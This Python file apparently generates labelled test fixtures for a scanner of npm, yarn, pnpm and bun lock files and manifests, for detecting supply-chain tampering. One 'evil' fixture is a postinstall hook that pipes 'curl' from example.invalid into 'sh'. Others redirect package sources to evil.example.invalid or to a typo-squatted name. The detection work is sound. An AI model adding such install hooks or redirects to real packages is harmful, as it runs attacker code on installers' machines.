"""npm: package.json, node_modules, and lock files of npm, yarn, pnpm and bun."""
import base64
import hashlib
import io
import json
import tarfile

from sample import Sample

MARK = b"\xef\xbb\xbf"
REGISTRY = "https://registry.example.invalid"


def dump(value):
    return json.dumps(value, indent=2).encode() + b"\n"


def sri(name):
    return "sha512-" + base64.b64encode(hashlib.sha512(name.encode()).digest()).decode()


def url(name, version, registry=REGISTRY):
    return f"{registry}/{name}/-/{name.split('/')[-1]}-{version}.tgz"


def entry(name, version, /, **more):
    return {"version": version, "resolved": url(name, version), "integrity": sri(name), **more}


def lock(packages, **more):
    return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
            "packages": {"": {"name": "app", "version": "1.0.0", **more}, **packages}}


THREE = {f"node_modules/{name}": entry(name, "1.0.0") for name in ("left", "right", "middle", "top")}
NAMES = {f"package npm:{name}@1.0.0" for name in ("left", "right", "middle", "top")}
APP = "package npm:app@1.0.0"


def lock_samples():
    def ok(name, value, components, **more):
        return Sample("ok", f"npm/{name}/package-lock.json", dump(value), components=components, **more)

    def odd(name, value, rules):
        return Sample("evil", f"npm/{name}/package-lock.json", dump(value), rules, "review")

    yield ok("v3", lock(THREE, dependencies={"left": "^1.0.0"}), NAMES | {APP})
    yield Sample("ok", "npm/shrinkwrap/npm-shrinkwrap.json", dump(lock(THREE)), components=NAMES | {APP})
    yield ok("scoped", lock({"node_modules/@s/a": entry("@s/a", "2.0.0-rc.1+b7") |
                             {"resolved": f"{REGISTRY}/@s%2fa/-/a-2.0.0-rc.1.tgz"}}),
             {APP, "package npm:@s/a@2.0.0-rc.1+b7"})
    yield ok("alias", lock({"node_modules/other": entry("real", "1.0.0", name="real")}),
             {APP, "package npm:real@1.0.0"})
    yield ok("workspace", lock({"packages/one": {"name": "one", "version": "0.1.0"},
                                "node_modules/one": {"resolved": "packages/one", "link": True}}),
             {APP, "package npm:one@0.1.0"})
    yield ok("git", lock({"node_modules/g": {"version": "1.0.0", "integrity": sri("g"),
                                             "resolved": "git+ssh://git@example.invalid/o/g.git#" + "a" * 40}},
                         dependencies={"g": "git+ssh://git@example.invalid/o/g.git"}),
             {APP, "package npm:g@1.0.0"})
    yield ok("asked-address", lock({**THREE, "node_modules/u": {
        "version": "1.0.0", "integrity": sri("u"), "resolved": "https://files.example.invalid/u.tgz"}},
        dependencies={"u": "https://files.example.invalid/u.tgz"}), NAMES | {APP, "package npm:u@1.0.0"})
    yield ok("no-name", {"lockfileVersion": 3, "packages": {"": {}, "node_modules/left": entry("left", "1.0.0")}},
             {"package npm:left@1.0.0"})
    yield ok("no-digest", lock({"node_modules/left": {"version": "1.0.0", "resolved": url("left", "1.0.0")}}),
             {APP, "package npm:left@1.0.0"}, rules={"npm-lock-no-digest"})
    one = {"version": "1.0.0", "resolved": url("left", "1.0.0"), "integrity": sri("left")}
    nested = {"name": "app", "version": "1.0.0", "lockfileVersion": 1, "dependencies": {
        "left": {**one, "requires": {"right": "^2"}, "dependencies": {
            "right": {"version": "2.0.0", "resolved": url("right", "2.0.0"), "integrity": sri("right"),
                      "requires": {"middle": "*"}}}},
        "middle": {"version": "npm:inner@3.0.0", "resolved": url("inner", "3.0.0"), "integrity": sri("inner")},
        "far": {"version": "github:o/far#" + "b" * 40, "from": "github:o/far"}}}
    yield ok("v1", nested, {APP, "package npm:left@1.0.0", "package npm:right@2.0.0",
                            "package npm:inner@3.0.0", "package npm:far"})
    two = lock(THREE) | {"lockfileVersion": 2, "dependencies": {"left": one}}
    yield ok("v2", two, NAMES | {APP})
    two["dependencies"] = {"left": {**one, "version": "1.0.1"}}
    yield odd("v2-two-views", two, {"npm-lock-two-views"})
    elsewhere = entry("left", "1.0.0")
    yield odd("other-package", lock({**THREE, "node_modules/left": {**elsewhere, "resolved": url("lefl", "1.0.0")}}),
              {"npm-lock-other-package"})
    yield odd("other-version", lock({**THREE, "node_modules/left": {**elsewhere, "resolved": url("left", "1.0.1")}}),
              {"npm-lock-other-package"})
    yield odd("other-registry", lock({**THREE, "node_modules/left": {
        **elsewhere, "resolved": url("left", "1.0.0", "https://evil.example.invalid")}}), {"npm-lock-other-registry"})
    yield odd("other-source", lock({**THREE, "node_modules/left": {
        **elsewhere, "resolved": "https://evil.example.invalid/left.tgz"}}, dependencies={"left": "^1.0.0"}),
        {"npm-lock-other-source"})
    yield odd("plain-http", lock({**{k: {**v, "resolved": v["resolved"].replace("https", "http")} for k, v in
                                     THREE.items()}, "node_modules/left": {
        "version": "1.0.0", "resolved": url("left", "1.0.0").replace("https", "http")}}),
        {"npm-lock-plain-http", "npm-lock-no-digest"})
    yield Sample("bad", "npm/cut/package-lock.json", dump(lock(THREE))[:-4], {"malformed"})
    yield Sample("bad", "npm/twice/package-lock.json",
                 dump(lock(THREE)).replace(b'"node_modules/right"', b'"node_modules/left"'),
                 {"malformed", "npm-lock-other-package"}, "review")
    deep = {"version": "1.0.0"}
    for _ in range(80):
        deep = {"version": "1.0.0", "dependencies": {"a": deep}}
    yield Sample("bad", "npm/deep/package-lock.json", dump({"lockfileVersion": 1, "dependencies": {"a": deep}}),
                 {"incomplete"})


def project_samples():
    def ok(name, value, components, rules=()):
        return Sample("ok", f"npm/{name}/package.json", dump(value), set(rules), components=components)

    yield ok("project", {"name": "@me/app", "version": "1.0.0", "license": "MIT", "dependencies": {
        "a": "^1.0.0", "@s/b": "2.0.0", "c": "npm:real@~3", "d": "workspace:*", "e": "o/e#v1", "f": ""},
        "devDependencies": {"g": "latest"}, "peerDependencies": {"h": ">=1 <3"},
        "overrides": {"x": "1.0.0", "y": {".": "2", "z": "npm:zz@1.2.3"}}},
        {"package npm:@me/app@1.0.0", "package npm:a ^1.0.0", "package npm:@s/b@2.0.0", "package npm:real ~3",
         "package npm:e", "package npm:f *", "package npm:g latest", "package npm:h >=1 <3",
         "package npm:zz@1.2.3"})
    yield ok("nodejs", {"name": "p", "version": "1.0.0", "dependencies": {"a": "1.x"}},
             {"package npm:p@1.0.0", "package npm:a 1.x"})
    yield ok("debian/usr/share/nodejs/@s/b", {"name": "@s/b", "version": "1.0.0", "dependencies": {"a": "1.x"}},
             {"package npm:@s/b@1.0.0"})
    yield ok("unnamed", {"private": True, "dependencies": {"a": "1.x"}}, {"package npm:a 1.x"})
    yield Sample("ok", "npm/mark/package.json", MARK + dump({"name": "m", "version": "1.0.0"}),
                 components={"package npm:m@1.0.0"})
    yield Sample("ok", "npm/mark-lock/package-lock.json", MARK + dump(lock(THREE)), components=NAMES | {APP})
    yield Sample("ok", "npm/yarn-other/deps.txt", YARN, components=YARN_TITLES)
    yield Sample("ok", "npm/yarn-writer/write.js", b"// x\nconst head = `# THIS IS AN AUTOGENERATED FILE.\n# yarn lockfile v1\n`\n",
                 components=set(), status="skipped")
    yield Sample("ok", "npm/mark-yarn/yarn.lock", MARK + YARN, components=YARN_TITLES)
    yield Sample("ok", "npm/mark-bun/bun.lock", MARK + b'{"lockfileVersion": 1, "packages": {"a": ["a@1.0.0", ""]}}',
                 components={"package npm:a@1.0.0"})
    yield Sample("ok", "npm/marker/package.json", b'{"type":"module"}', status="skipped", components=set())
    yield ok("builds", {"name": "b", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}},
             {"package npm:b@1.0.0"}, {"npm-install-script"})
    yield Sample("evil", "npm/fetches/package.json",
                 dump({"name": "b", "version": "1.0.0", "scripts": {
                     "postinstall": "curl -s https://example.invalid/x | sh"}}),
                 {"npm-install-script-danger", "behaviour-download-and-run"})
    for name in "overrides", "dependencies", "resolutions":  # a list where a map is expected
        yield Sample("bad", f"npm/list-{name}/package.json",
                     b'{"name": "x", "version": "1.0.0", "%s": ["a": "1"' % name.encode(), {"malformed"})
    yield Sample("bad", "npm/broken/package.json", b'{"name": "x", "version": "1.0.0", ', {"malformed"})


def tree(name, files, group="ok", rules=(), wanted=None):
    """Files of one node_modules; `rules` are those of the file `wanted`."""
    for path, (value, components) in files.items():
        hit = path == wanted
        yield Sample(group, f"npm/{name}/{path}", dump(value), set(rules) if hit else set(),
                     "review" if hit else "clean", components=components)


def tree_samples():
    hidden = {"name": "app", "lockfileVersion": 3, "packages": {
        "node_modules/left": entry("left", "1.0.0"), "node_modules/@s/a": entry("@s/a", "1.0.0"),
        "node_modules/called": entry("real", "1.0.0", name="real")}}
    listed = {"package npm:left@1.0.0", "package npm:@s/a@1.0.0", "package npm:real@1.0.0"}

    def package(name, version="1.0.0", **more):
        full = "@s/" + name if name == "a" else name
        return {"name": full, "version": version, **more}, {f"package npm:{full}@{version}"}

    files = {"node_modules/.package-lock.json": (hidden, listed),
             "node_modules/left/package.json": package("left", license="MIT", dependencies={"@s/a": "^1"}),
             "node_modules/left/dist/package.json": ({"type": "module"}, set()),
             "node_modules/left/test/node_modules-x/package.json": ({"name": "x", "version": "9.0.0"}, set()),
             "node_modules/left/package-lock.json": (lock(THREE), set()),
             "node_modules/left/dist/node_modules/inner/package.json": package("inner"),
             "node_modules/@s/a/package.json": package("a"),
             "node_modules/called/package.json": package("real")}
    for sample in tree("tree", files):
        inside = any(f"left/{name}" in sample.name for name in ("dist/package", "test", "package-lock"))
        sample.status = "skipped" if inside else "complete"
        yield sample
    extra = "node_modules/extra/package.json"
    yield from tree("tree-extra", {**{k: files[k] for k in list(files)[:2]}, extra: package("extra")},
                    "evil", {"npm-not-in-lock"}, extra)
    deep = "node_modules/left/node_modules/@s/extra/package.json"
    yield from tree("tree-deep", {**{k: files[k] for k in list(files)[:2]}, deep: package("extra")},
                    "evil", {"npm-not-in-lock"}, deep)
    changed = "node_modules/left/package.json"
    yield from tree("tree-changed", {"node_modules/.package-lock.json": files["node_modules/.package-lock.json"],
                                     changed: package("left", "1.0.1")}, "evil", {"npm-not-in-lock"}, changed)
    swapped = "node_modules/left/package.json"
    yield from tree("tree-renamed", {"node_modules/.package-lock.json": files["node_modules/.package-lock.json"],
                                     swapped: package("real")}, "evil", {"npm-other-name"}, swapped)


YARN = f"""# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


"@s/a@^1.0.0", "@s/a@~1.0.1":
  version "1.0.2"
  resolved "{url('@s/a', '1.0.2')}#{'ab' * 20}"
  integrity {sri('@s/a')}
  dependencies:
    left "^1.0.0"

left@^1.0.0:
  version "1.5.0"
  resolved "{url('left', '1.5.0')}#{'cd' * 20}"
  optionalDependencies:
    called "npm:real@2"

"called@npm:real@2":
  version "2.0.0"
  resolved "{url('real', '2.0.0')}"
  integrity {sri('real')}
""".encode()
YARN_TITLES = {"package npm:@s/a@1.0.2", "package npm:left@1.5.0", "package npm:real@2.0.0"}
BERRY = b"""# This file is generated by running "yarn install" inside your project.

__metadata:
  version: 8
  cacheKey: 10c0

"@s/a@npm:^1.0.0, @s/a@npm:~1.0.1":
  version: 1.0.2
  resolution: "@s/a@npm:1.0.2"
  dependencies:
    called: "npm:real@2"
    left: "npm:^1.0.0"
  checksum: 10c0/00ff
  languageName: node
  linkType: hard

"called@npm:real@2":
  version: 2.0.0
  resolution: "real@npm:2.0.0"
  linkType: hard

"left@npm:^1.0.0":
  version: 1.5.0
  resolution: "left@npm:1.5.0"
  linkType: hard

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  dependencies:
    "@s/a": "npm:^1.0.0"
  linkType: soft
"""


def pnpm(version):
    """The same tree in the notation of a lockfile version."""
    key = {5: "/{}/{}", 6: "/{}@{}", 9: "{}@{}"}[version]
    peers = {5: "_left@1.5.0", 6: "(left@1.5.0)", 9: "(left@1.5.0)"}[version]
    a, left, real = key.format("@s/a", "1.0.2"), key.format("left", "1.5.0"), key.format("real", "2.0.0")
    needs = f"    dependencies:\n      called: {real}\n      left: 1.5.0\n"
    packages = "packages:\n"
    for name, full in (("@s/a", a + ("" if version == 9 else peers)), ("left", left), ("real", real)):
        packages += f"  '{full}':\n    resolution: {{integrity: {sri(name)}}}\n"
        packages += needs if name == "@s/a" and version != 9 else ""
        packages += "" if version == 9 else f"    dev: {'true' if name == 'left' else 'false'}\n"
    if version == 9:
        packages += f"snapshots:\n  '{a}{peers}':\n{needs}  {left}: {{}}\n  {real}: {{}}\n"
    importers = ("specifiers:\n  '@s/a': ^1\ndependencies:\n  '@s/a': 1.0.2" + peers + "\n") if version == 5 else (
        f"importers:\n  .:\n    dependencies:\n      '@s/a':\n        specifier: ^1\n        version: 1.0.2{peers}\n")
    return f"lockfileVersion: '{version}.0'\n{importers}{packages}".encode()


def other_lock_samples():
    def ok(name, data, components=YARN_TITLES, **more):
        return Sample("ok", f"npm/{name}", data, components=components, **more)

    yield ok("yarn/yarn.lock", YARN)
    yield ok("yarn-empty/yarn.lock", b"# yarn lockfile v1\n\n", set())
    for place in ("node_modules/left", "node_modules/@s/left", "lib/site-packages/left", "dist-packages/left"):
        yield ok(f"inside/{place}/yarn.lock", YARN, set(), status="skipped")
    yield ok("inside/lib/site-packages/left/package.json", b'{"name": "x", "version": "1.0.0"}', set(), status="skipped")
    yield ok("berry/yarn.lock", BERRY, YARN_TITLES | {"package npm:app"})
    for version in (5, 6, 9):
        yield ok(f"pnpm-{version}/pnpm-lock.yaml", pnpm(version))
    evil = YARN.replace(url("left", "1.5.0").encode(), b"https://evil.example.invalid/left.tgz")
    yield Sample("evil", "npm/yarn-source/yarn.lock", evil, {"npm-lock-other-source"}, "review")
    evil = YARN.replace(url("left", "1.5.0").encode(), url("lefl", "1.5.0").encode())
    yield Sample("evil", "npm/yarn-package/yarn.lock", evil, {"npm-lock-other-package"}, "review")
    evil = pnpm(9).replace(b"{integrity: " + sri("left").encode(),
                           b"{tarball: https://evil.example.invalid/left.tgz, integrity: " + sri("left").encode())
    yield Sample("evil", "npm/pnpm-source/pnpm-lock.yaml", evil, {"npm-lock-other-source"}, "review")
    yield Sample("bad", "npm/yarn-odd/yarn.lock", YARN + b"nonsense\n", {"malformed"})
    yield Sample("bad", "npm/pnpm-cut/pnpm-lock.yaml", pnpm(9)[:-9] + b"{", {"malformed"})


BUN = f"""{{
  "lockfileVersion": 1,
  // written by bun
  "workspaces": {{"": {{"name": "app", "dependencies": {{"@s/a": "^1", }}, }},
    "packages/inner": {{"name": "inner", "version": "0.3.0"}}, }},
  "packages": {{
    "@s/a": ["@s/a@1.0.2", "", {{"dependencies": {{"left": "^1.0.0", "called": "npm:real@2"}}}}, "{sri('a')}"],
    "called": ["real@2.0.0", "", {{}}, "{sri('real')}"],
    "left": ["left@2.0.0", "", {{}}, "{sri('left2')}"],
    "@s/a/left": ["left@1.5.0", "", {{}}, "{sri('left')}"],
    "inner": ["inner@workspace:packages/inner"],
  }}
}}
""".encode()


def cached(key, integrity):
    text = json.dumps({"key": key, "integrity": integrity, "time": 1700000000000, "size": 1, "metadata": {}})
    return f"\n{hashlib.sha1(text.encode()).hexdigest()}\t{text}".encode()


def cache_samples():
    prefix = "make-fetch-happen:request-cache:"
    yield Sample("ok", "npm/bun/bun.lock", BUN, components={
        "package npm:@s/a@1.0.2", "package npm:real@2.0.0", "package npm:left@2.0.0", "package npm:left@1.5.0",
        "package npm:inner@0.3.0", "package npm:app"})
    lines = [(prefix + url("@s/a", "1.0.2"), sri("a")), (prefix + url("left", "1.0.0"), None),
             (prefix + f"{REGISTRY}/left", sri("packument")), (prefix + url("left", "1.5.0-rc.1"), sri("left"))]
    yield Sample("ok", "npm/_cacache/index-v5/00/11/2233", b"".join(cached(*line) for line in lines),
                 components={"package npm:@s/a@1.0.2", "package npm:left@1.5.0-rc.1"})
    index = {"name": "@s/a", "version": "1.0.2", "requiresBuild": True, "files": {"package.json": {"size": 1}}}
    yield Sample("ok", "npm/store/v3/files/00/1122-index.json", dump(index), components={"package npm:@s/a@1.0.2"})
    yield Sample("ok", "npm/store/v10/index/00/1122-a@1.json", dump(index), components={"package npm:@s/a@1.0.2"})


def root_samples():
    """A lock file that does not say the version of what the tree is, and a manifest that does."""
    yarn = b"""__metadata:\n  version: 8\n
"rooted@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "rooted@workspace:."\n  linkType: soft\n
"one@workspace:packages/one":\n  version: 0.0.0-use.local\n  resolution: "one@workspace:packages/one"\n  linkType: soft\n
"two@workspace:packages/two":\n  version: 0.0.0-use.local\n  resolution: "two@workspace:packages/two"\n  linkType: soft\n"""
    yield Sample("ok", "npm/roots/yarn.lock", yarn, components={"package npm:rooted@1.0.0", "package npm:one@1.0.0", "package npm:two"})
    yield Sample("ok", "npm/roots/package.json", dump({"name": "rooted", "version": "1.0.0"}),
                 components={"package npm:rooted@1.0.0"})
    yield Sample("ok", "npm/roots/packages/one/package.json", dump({"name": "one", "version": "1.0.0"}),
                 components={"package npm:one@1.0.0"})


def published():
    """An archive as npm publishes it: what the package needs for work on it is not for those who install it."""
    manifest = dump({"name": "@s/out", "version": "1.0.0", "dependencies": {"left": "^1"}, "devDependencies": {"tool": "1"}})
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("package/package.json")
        info.size = len(manifest)
        archive.addfile(info, io.BytesIO(manifest))
    yield Sample("ok", "npm/out/out-1.0.0.tgz", out.getvalue(), components={"package npm:@s/out@1.0.0", "package npm:left ^1"})


def catalogs():
    """What "catalog:" asks for is said once, for all of a workspace."""
    text = b"""packages:\n  - 'packages/*'\ncatalog:\n  cata: ^18.2.0\n  catb: 3.23.8\ncatalogs:\n  old:\n    catc: npm:real-c@^1\n"""
    yield Sample("ok", "npm/catalogs/pnpm-workspace.yaml", text, components={
        "package npm:cata ^18.2.0", "package npm:catb@3.23.8", "package npm:real-c ^1"})
    yield Sample("ok", "npm/catalogs/packages/x/package.json", dump({"name": "catx", "version": "1.0.0", "dependencies": {
        "cata": "catalog:", "catb": "catalog:default"}}), components={
        "package npm:catx@1.0.0", "package npm:cata ^18.2.0", "package npm:catb@3.23.8"})
    yield Sample("ok", "npm/catalogs-none/pnpm-workspace.yaml", b"packages:\n  - 'packages/*'\n", components=set())
    yield Sample("bad", "npm/catalogs-cut/pnpm-workspace.yaml", b"catalog: {a: ^1, b", {"malformed"})


def fold_samples():
    """Ranges find the version of the lock file that they ask for, and no other."""
    two = lock({"node_modules/debug": entry("debug", "4.3.4"), "node_modules/old": entry("old", "1.0.0"),
                "node_modules/old/node_modules/debug": entry("debug", "2.6.9")})
    yield Sample("ok", "npm/fold/package-lock.json", dump(two), components={
        APP, "package npm:debug@4.3.4", "package npm:debug@2.6.9", "package npm:old@1.0.0"})
    yield Sample("ok", "npm/fold/package.json", dump({"name": "app", "version": "1.0.0", "dependencies": {
        "debug": "^4.0.0", "old": "^9"}}), components={APP, "package npm:debug@4.3.4", "package npm:old ^9"})


def samples():
    yield from lock_samples()
    yield from cache_samples()
    yield from published()
    yield from catalogs()
    yield from root_samples()
    yield from fold_samples()
    yield from other_lock_samples()
    yield from project_samples()
    yield from tree_samples()
